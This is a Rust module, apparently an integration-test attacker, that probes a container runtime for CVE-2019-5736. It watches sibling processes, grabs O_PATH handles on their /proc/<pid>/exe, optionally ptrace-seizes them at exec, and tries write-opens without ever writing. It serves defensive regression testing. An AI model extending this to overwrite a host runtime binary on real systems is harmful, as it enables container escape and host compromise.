//! `attack-exe`: a CVE-2019-5736 attacker for the integration suite. For `--secs` seconds it
//! watches every other process of its pid namespace, tries to open `/proc/<pid>/exe` (O_PATH
//! and O_WRONLY), keeps every O_PATH handle it gets, and keeps trying to reopen those handles
//! for writing through `/proc/self/fd/N`.
//!
//! It never writes and never truncates: a write-open is `O_WRONLY` without `O_TRUNC` and is
//! closed at once, so the binary under test is not damaged. Findings go to stdout, one line
//! each, deduplicated:
//!
//! ```text
//! ready
//! target pid=P comm=C
//! opath pid=P comm=C result=EACCES
//! handle pid=P comm=C dev=D ino=I
//! seize pid=P result=OK          (with --trace-exec)
//! exec pid=P comm=C dev=D ino=I   (its exe at its exec stop, with --trace-exec)
//! wopen-direct pid=P comm=C result=ETXTBSY [dev=D ino=I]
//! wopen pid=P dev=D ino=I result=EROFS
//! done
//! ```

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::CString;
use std::io;
use std::time::{Duration, Instant};

const MAX_HANDLES: usize = 32;

struct Handle {
    pid: i32,
    fd: i32,
    dev: u64,
    ino: u64,
    seen: BTreeSet<String>,
}

struct Target {
    seen: BTreeSet<String>,
    gone: bool,
}

fn ptrace(req: libc::c_uint, pid: i32, data: usize) -> io::Result<()> {
    // SAFETY: the requests used here (SEIZE, CONT, DETACH) take no pointer arguments.
    let r = unsafe { libc::ptrace(req, pid, 0usize, data) };
    if r < 0 {
        Err(io::Error::last_os_error())
    } else {
        Ok(())
    }
}

/// Polls a tracee seized with PTRACE_O_TRACEEXEC. At its exec stop (the new program loaded,
/// not yet running) grabs an O_PATH handle on its exe and detaches. Returns false once the
/// tracee is detached or gone.
fn poll_traced(pid: i32, handles: &mut Vec<Handle>) -> bool {
    let mut status = 0;
    // SAFETY: status is a valid int for waitpid to fill in.
    let r = unsafe { libc::waitpid(pid, &mut status, libc::WNOHANG | libc::__WALL) };
    if r == 0 {
        return true;
    }
    if r < 0 || !libc::WIFSTOPPED(status) {
        return false;
    }
    let event = status >> 16;
    if event == libc::PTRACE_EVENT_EXEC {
        match open(&format!("/proc/{pid}/exe"), libc::O_PATH) {
            Ok(fd) => {
                let (dev, ino) = dev_ino(fd).unwrap_or((0, 0));
                say(format!(
                    "exec pid={pid} comm={} dev={dev} ino={ino}",
                    comm(pid)
                ));
                keep(pid, fd, handles)
            }
            Err(e) => say(format!(
                "opath pid={pid} comm={} result={} (at exec stop)",
                comm(pid),
                errno_name(&e)
            )),
        }
        let _ = ptrace(libc::PTRACE_DETACH, pid, 0);
        return false;
    }
    // Any other stop: let it go on, re-injecting a signal it was about to receive.
    let sig = if event == 0 {
        libc::WSTOPSIG(status)
    } else {
        0
    };
    let _ = ptrace(libc::PTRACE_CONT, pid, sig as usize);
    true
}

/// Keeps an O_PATH handle unless one on the same file of the same pid is already kept.
fn keep(pid: i32, fd: i32, handles: &mut Vec<Handle>) {
    let id = dev_ino(fd);
    let known = id.is_none()
        || handles.len() >= MAX_HANDLES
        || handles
            .iter()
            .any(|h| h.pid == pid && Some((h.dev, h.ino)) == id);
    match id {
        Some((dev, ino)) if !known => {
            say(format!(
                "handle pid={pid} comm={} dev={dev} ino={ino}",
                comm(pid)
            ));
            handles.push(Handle {
                pid,
                fd,
                dev,
                ino,
                seen: BTreeSet::new(),
            });
        }
        _ => close(fd),
    }
}

fn errno_name(e: &io::Error) -> String {
    match e.raw_os_error() {
        Some(libc::EACCES) => "EACCES".into(),
        Some(libc::EPERM) => "EPERM".into(),
        Some(libc::EROFS) => "EROFS".into(),
        Some(libc::ETXTBSY) => "ETXTBSY".into(),
        Some(libc::ENOENT) => "ENOENT".into(),
        Some(libc::ESRCH) => "ESRCH".into(),
        Some(n) => format!("errno{n}"),
        None => "error".into(),
    }
}

fn open(path: &str, flags: libc::c_int) -> io::Result<i32> {
    let c = CString::new(path).map_err(|_| io::Error::from_raw_os_error(libc::EINVAL))?;
    // SAFETY: c is a valid C string that outlives the call.
    let fd = unsafe { libc::open(c.as_ptr(), flags | libc::O_CLOEXEC) };
    if fd < 0 {
        Err(io::Error::last_os_error())
    } else {
        Ok(fd)
    }
}

fn close(fd: i32) {
    // SAFETY: fd is an fd this module opened and owns.
    unsafe { libc::close(fd) };
}

fn dev_ino(fd: i32) -> Option<(u64, u64)> {
    // SAFETY: stat is plain old data; all-zero is a valid value.
    let mut st: libc::stat = unsafe { std::mem::zeroed() };
    // SAFETY: st is a valid, writable stat that outlives the call.
    if unsafe { libc::fstat(fd, &mut st) } != 0 {
        return None;
    }
    Some((st.st_dev, st.st_ino))
}

fn comm(pid: i32) -> String {
    std::fs::read_to_string(format!("/proc/{pid}/comm"))
        .map(|s| s.trim().replace(' ', "_"))
        .unwrap_or_else(|_| "?".into())
}

fn scan(me: i32) -> Vec<i32> {
    let Ok(rd) = std::fs::read_dir("/proc") else {
        return Vec::new();
    };
    rd.filter_map(|e| e.ok()?.file_name().to_str()?.parse::<i32>().ok())
        .filter(|p| *p != me)
        .collect()
}

fn say(line: String) {
    println!("{line}");
}

/// Runs the attack for `secs` seconds; always ends with `done`. With `trace_exec` (needs
/// CAP_SYS_PTRACE) every target is seized with PTRACE_O_TRACEEXEC, so a program it execs,
/// however short-lived, is caught at its exec stop.
pub fn run(secs: u64, trace_exec: bool) {
    // SAFETY: getpid has no preconditions.
    let me = unsafe { libc::getpid() };
    let end = Instant::now() + Duration::from_secs(secs);
    let mut targets: BTreeMap<i32, Target> = BTreeMap::new();
    let mut handles: Vec<Handle> = Vec::new();
    let mut traced: Vec<i32> = Vec::new();
    let mut last_scan = Instant::now() - Duration::from_secs(1);
    say("ready".into());
    while Instant::now() < end {
        if last_scan.elapsed() >= Duration::from_millis(10) {
            last_scan = Instant::now();
            for pid in scan(me) {
                targets.entry(pid).or_insert_with(|| {
                    say(format!("target pid={pid} comm={}", comm(pid)));
                    if trace_exec {
                        let opts = libc::PTRACE_O_TRACEEXEC as usize;
                        match ptrace(libc::PTRACE_SEIZE, pid, opts) {
                            Ok(()) => {
                                say(format!("seize pid={pid} result=OK"));
                                traced.push(pid);
                            }
                            Err(e) => say(format!("seize pid={pid} result={}", errno_name(&e))),
                        }
                    }
                    Target {
                        seen: BTreeSet::new(),
                        gone: false,
                    }
                });
            }
        }
        traced.retain(|&pid| poll_traced(pid, &mut handles));
        let mut busy = false;
        for (&pid, t) in targets.iter_mut().filter(|(_, t)| !t.gone) {
            busy = true;
            let path = format!("/proc/{pid}/exe");
            match open(&path, libc::O_PATH) {
                Err(e) if e.raw_os_error() == Some(libc::ENOENT) => {
                    if std::fs::metadata(format!("/proc/{pid}")).is_err() {
                        t.gone = true;
                    }
                }
                Err(e) => {
                    let c = comm(pid);
                    let key = format!("opath {c} {}", errno_name(&e));
                    if t.seen.insert(key) {
                        say(format!(
                            "opath pid={pid} comm={c} result={}",
                            errno_name(&e)
                        ));
                    }
                }
                Ok(fd) => keep(pid, fd, &mut handles),
            }
            match open(&path, libc::O_WRONLY) {
                Ok(fd) => {
                    let (dev, ino) = dev_ino(fd).unwrap_or((0, 0));
                    close(fd);
                    let c = comm(pid);
                    if t.seen.insert(format!("wopen-direct {c} OK {dev} {ino}")) {
                        say(format!(
                            "wopen-direct pid={pid} comm={c} result=OK dev={dev} ino={ino}"
                        ));
                    }
                }
                Err(e) if e.raw_os_error() == Some(libc::ENOENT) => {}
                Err(e) => {
                    let c = comm(pid);
                    if t.seen
                        .insert(format!("wopen-direct {c} {}", errno_name(&e)))
                    {
                        say(format!(
                            "wopen-direct pid={pid} comm={c} result={}",
                            errno_name(&e)
                        ));
                    }
                }
            }
        }
        for h in &mut handles {
            match open(&format!("/proc/self/fd/{}", h.fd), libc::O_WRONLY) {
                Ok(fd) => {
                    let (dev, ino) = dev_ino(fd).unwrap_or((0, 0));
                    close(fd);
                    if h.seen.insert(format!("OK {dev} {ino}")) {
                        say(format!("wopen pid={} dev={dev} ino={ino} result=OK", h.pid));
                    }
                }
                Err(e) => {
                    let n = errno_name(&e);
                    if h.seen.insert(n.clone()) {
                        say(format!(
                            "wopen pid={} dev={} ino={} result={n}",
                            h.pid, h.dev, h.ino
                        ));
                    }
                }
            }
        }
        // Spin while a target lives (an exec'd runtime may live only a millisecond); rest
        // otherwise.
        if !busy {
            std::thread::sleep(Duration::from_millis(2));
        } else if handles.len() >= MAX_HANDLES {
            std::thread::sleep(Duration::from_micros(200));
        }
    }
    for h in &handles {
        close(h.fd);
    }
    say("done".into());
}
